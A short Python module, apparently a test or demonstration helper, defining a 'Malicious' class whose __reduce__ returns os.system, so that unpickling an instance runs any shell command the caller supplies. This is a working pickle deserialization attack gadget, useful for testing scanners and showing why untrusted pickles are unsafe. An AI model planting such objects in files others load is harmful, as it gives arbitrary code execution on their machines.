"""A malicious file that runs code."""

import os


class Malicious:
    """A pickle that runs a command when it is loaded."""

    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)
